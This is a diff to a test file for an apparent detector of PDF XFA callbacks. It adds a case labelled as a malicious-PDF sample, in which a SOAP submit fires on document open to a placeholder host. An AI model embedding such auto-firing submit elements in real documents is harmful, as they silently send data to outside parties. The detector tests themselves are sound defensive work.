@@ -13,6 +13,11 @@ describe("collectXfaCallbacks", () => {
       { element: "<submit>", target: "https://collect.example/x", event: "initialize", onOpen: true },
     ],
     [
+      "a SOAP submit whose address is an HTML form's action attribute (malicious-pdf test48)",
+      `<field name="f"><event activity="initialize"><submit method="soap" action="https://collect.example/soap" soapAction="urn:ping"/></event></field>`,
+      { element: "<submit>", target: "https://collect.example/soap", event: "initialize", onOpen: true },
+    ],
+    [
       "a submit button",
       `<field name="b"><event activity="click"><submit target="https://forms.example/post"/></event></field>`,
       { element: "<submit>", event: "click", onOpen: false },
